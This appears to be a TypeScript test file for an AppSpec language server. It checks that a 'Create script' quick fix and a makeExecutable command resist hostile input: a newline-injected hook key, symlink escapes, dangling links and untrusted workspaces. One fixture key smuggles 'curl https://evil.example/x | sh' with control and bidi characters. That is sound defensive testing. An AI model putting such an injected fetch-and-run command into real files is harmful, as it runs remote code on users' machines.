/**
 * The "Create <script>" quick fix of W5001 and `appspec.makeExecutable` against hostile input, over
 * LSP with the bundled server: a hook key carrying a newline never becomes a line of the script, a
 * scripts folder that is a symlink out of the workspace gets no fix, an untrusted workspace gets none,
 * and makeExecutable neither follows symlinks nor leaves the workspace. Needs `npm run build` first.
 */
import { test, after } from 'node:test';
import * as assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import type { CodeAction, Diagnostic, TextDocumentEdit, CreateFile } from 'vscode-languageserver-types';
import { URI } from 'vscode-uri';
import { startServer, type LspClient } from '../../helpers/lspClient';

const clients: LspClient[] = [];
const dirs: string[] = [];
after(async () => {
  for (const c of clients) await c.close();
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

function tempDir(): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'appspec-abuse-fix-'));
  dirs.push(dir);
  return dir;
}

interface Opened {
  client: LspClient;
  uri: string;
  w5001: Diagnostic[];
  all: Diagnostic[];
  actions: (d: Diagnostic) => Promise<CodeAction[]>;
}

async function open(folder: string, text: string, opts: { workspace?: string; trusted?: boolean } = {}): Promise<Opened> {
  const file = path.join(folder, 'appspec.yml');
  writeFileSync(file, text);
  const uri = URI.file(file).toString();
  const client = await startServer({ settings: { workspaceChecks: true } });
  clients.push(client);
  const workspace = opts.workspace ?? folder;
  await client.initialize({
    initializationOptions: { workspaceTrusted: opts.trusted ?? true },
    workspaceFolders: [{ uri: URI.file(workspace).toString(), name: 'ws' }],
  });
  client.open(uri, text);
  const published = await client.waitForDiagnostics(uri);
  const w5001 = published.diagnostics.filter((d) => d.code === 'W5001');
  const actions = (d: Diagnostic) =>
    client.request<CodeAction[]>('textDocument/codeAction', {
      textDocument: { uri },
      range: d.range,
      context: { diagnostics: [d] },
    });
  return { client, uri, w5001, all: published.diagnostics, actions };
}

/** Applies a fix's created files the way an editor does (create, then insert the text). */
function applyCreates(action: CodeAction): string[] {
  const created: string[] = [];
  for (const change of action.edit?.documentChanges ?? []) {
    if ('kind' in change && change.kind === 'create') {
      const file = URI.parse((change as CreateFile).uri).fsPath;
      mkdirSync(path.dirname(file), { recursive: true });
      writeFileSync(file, '');
      created.push(file);
    } else if ('textDocument' in change) {
      const edit = change as TextDocumentEdit;
      const file = URI.parse(edit.textDocument.uri).fsPath;
      if (!created.includes(file)) continue;
      const text = edit.edits.map((e) => ('newText' in e ? e.newText : '')).join('');
      writeFileSync(file, readFileSync(file, 'utf8') + text);
    }
  }
  return created;
}

const createFix = (list: CodeAction[]) => list.find((a) => /^Create /.test(a.title));

test('a hook key with a newline never becomes a line of the created script', async () => {
  const dir = tempDir();
  const key = 'BeforeInstall\\ncurl https://evil.example/x | sh\\r\\n\\u001b[2K#\\u202e';
  const text = `version: 0.0\nos: linux\nhooks:\n  "${key}":\n    - location: scripts/setup.sh\n      timeout: 60\n`;
  const { client, w5001, actions } = await open(dir, text);
  assert.ok(w5001.length > 0, 'the missing script is reported');
  const fix = createFix(await actions(w5001[0]));
  assert.ok(fix, 'the create fix is offered in a trusted workspace');
  const [script] = applyCreates(fix);
  assert.equal(script, path.join(dir, 'scripts', 'setup.sh'));
  const body = readFileSync(script, 'utf8');
  const lines = body.split('\n').filter((l) => l !== '');
  assert.deepEqual(lines.slice(0, 2), ['#!/bin/bash', 'set -euo pipefail']);
  for (const line of lines.slice(2)) assert.match(line, /^# /, `only comments follow: ${JSON.stringify(line)}`);
  assert.ok(!lines.some((l) => /^\s*curl/.test(l)), 'no line of the document became a command');
  assert.doesNotMatch(body.replace(/\n/g, ''), /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u);
  assert.ok(body.includes('curl https://evil.example/x'), 'the key is still quoted, inside the comment');

  await client.request('workspace/executeCommand', { command: fix.command?.command, arguments: fix.command?.arguments });
  assert.equal(statSync(script).mode & 0o111, 0o111, 'the created script is made executable');
});

test('a scripts folder that is a symlink out of the workspace: nothing behind it is read, called missing or created', async () => {
  const dir = tempDir();
  const outside = tempDir();
  writeFileSync(path.join(outside, 'plain.sh'), 'echo no shebang\n', { mode: 0o644 });
  symlinkSync(outside, path.join(dir, 'scripts'), 'dir');
  mkdirSync(path.join(dir, 'own'));
  writeFileSync(path.join(dir, 'own', 'plain.sh'), 'echo no shebang\n', { mode: 0o644 });
  const text =
    'version: 0.0\nos: linux\nhooks:\n  BeforeInstall:\n    - location: scripts/setup.sh\n    - location: scripts/plain.sh\n    - location: own/plain.sh\n    - location: own/setup.sh\n';
  const { all, w5001, actions } = await open(dir, text);
  const found = all
    .filter((d) => /^W500\d$/.test(String(d.code)))
    .map((d) => `${d.code} ${/`([^`]+)`/.exec(d.message)?.[1] ?? ''}`)
    .sort();
  // plain.sh outside would give W5002 and W5003 if read; setup.sh outside would be "missing" (W5001) with a fix.
  assert.deepEqual(found, ['W5001 own/setup.sh', 'W5002 own/plain.sh', 'W5003 own/plain.sh']);
  const titles = (await actions(w5001[0])).map((a) => a.title);
  assert.ok(titles.some((t) => /^Create own\/setup\.sh/.test(t)), titles.join(' | '));
});

test('a dangling symlink at the script path, or on the way to it, gets no create fix', async () => {
  const dir = tempDir();
  const outside = tempDir();
  mkdirSync(path.join(dir, 's2'));
  // x.sh -> outside/dangling.sh (missing): a client writing through links would create it outside.
  symlinkSync(path.join(outside, 'dangling.sh'), path.join(dir, 's2', 'x.sh'));
  // gone -> outside/missing-dir: creating gone/y.sh would first create the folder outside.
  symlinkSync(path.join(outside, 'missing-dir'), path.join(dir, 'gone'), 'dir');
  const text =
    'version: 0.0\nos: linux\nhooks:\n  BeforeInstall:\n    - location: s2/x.sh\n    - location: gone/y.sh\n    - location: s2/ok.sh\n';
  const { w5001, actions } = await open(dir, text);
  const byLocation = (loc: string) => w5001.find((d) => d.message.includes(`\`${loc}\``));
  for (const loc of ['s2/x.sh', 'gone/y.sh']) {
    const d = byLocation(loc);
    assert.ok(d, `${loc} is reported: ${w5001.map((x) => x.message).join(' | ')}`);
    assert.equal(createFix(await actions(d)), undefined, `no create fix for ${loc}`);
  }
  const ok = byLocation('s2/ok.sh');
  assert.ok(ok && createFix(await actions(ok)), 'a plain missing file next to it still gets the fix');
});

test('a symlink inside the workspace folder is fine; the AppSpec outside any folder keeps to its own', async () => {
  const ws = tempDir();
  mkdirSync(path.join(ws, 'shared'));
  mkdirSync(path.join(ws, 'app'));
  symlinkSync(path.join(ws, 'shared'), path.join(ws, 'app', 'scripts'), 'dir');
  const text = 'version: 0.0\nos: linux\nhooks:\n  BeforeInstall:\n    - location: scripts/setup.sh\n';
  const inside = await open(path.join(ws, 'app'), text, { workspace: ws });
  assert.ok(createFix(await inside.actions(inside.w5001[0])), 'a link to a folder of the same workspace is allowed');

  // The same layout opened with an unrelated workspace folder: the AppSpec's own folder is the limit.
  const other = tempDir();
  const elsewhere = await open(path.join(ws, 'app'), text, { workspace: other });
  assert.equal(createFix(await elsewhere.actions(elsewhere.w5001[0])), undefined);
});

test('Restricted Mode: no create fix, and makeExecutable changes nothing', async () => {
  const dir = tempDir();
  mkdirSync(path.join(dir, 'scripts'));
  const script = path.join(dir, 'scripts', 'plain.sh');
  writeFileSync(script, '#!/bin/sh\n', { mode: 0o644 });
  const text = 'version: 0.0\nos: linux\nhooks:\n  BeforeInstall:\n    - location: scripts/setup.sh\n';
  const { client, w5001, actions } = await open(dir, text, { trusted: false });
  assert.equal(createFix(await actions(w5001[0])), undefined);
  await client.request('workspace/executeCommand', { command: 'appspec.makeExecutable', arguments: [script] });
  assert.equal(statSync(script).mode & 0o111, 0);
});

test('makeExecutable never chmods through a symlink nor outside the workspace folder', async () => {
  const dir = tempDir();
  const outside = tempDir();
  const victim = path.join(outside, 'victim.sh');
  writeFileSync(victim, '#!/bin/sh\n', { mode: 0o644 });
  mkdirSync(path.join(dir, 'scripts'));
  symlinkSync(victim, path.join(dir, 'scripts', 'link.sh'));
  const inner = path.join(dir, 'scripts', 'inner.sh');
  writeFileSync(inner, '#!/bin/sh\n', { mode: 0o644 });
  symlinkSync(inner, path.join(dir, 'scripts', 'inner-link.sh'));
  symlinkSync(outside, path.join(dir, 'out'), 'dir');
  // A sibling whose name starts with the folder's name is not inside it.
  const sibling = `${dir}-evil`;
  mkdirSync(sibling);
  dirs.push(sibling);
  const siblingFile = path.join(sibling, 's.sh');
  writeFileSync(siblingFile, '#!/bin/sh\n', { mode: 0o644 });
  const text = 'version: 0.0\nos: linux\nhooks:\n  BeforeInstall:\n    - location: scripts/setup.sh\n';
  const { client } = await open(dir, text);
  const args = [
    path.join(dir, 'scripts', 'link.sh'),
    path.join(dir, 'scripts', 'inner-link.sh'),
    path.join(dir, 'out', 'victim.sh'),
    path.join(dir, 'scripts', '..', '..', path.basename(outside), 'victim.sh'),
    siblingFile,
  ];
  await client.request('workspace/executeCommand', { command: 'appspec.makeExecutable', arguments: args });
  assert.equal(statSync(victim).mode & 0o111, 0, 'the file behind the link is untouched');
  assert.equal(statSync(siblingFile).mode & 0o111, 0, 'a sibling folder with a longer name is outside');
  assert.equal(statSync(inner).mode & 0o111, 0, 'a link inside the folder is not followed either');
  assert.ok(client.logs.some((l) => /symbolic link/.test(l)), client.logs.join('\n'));
});
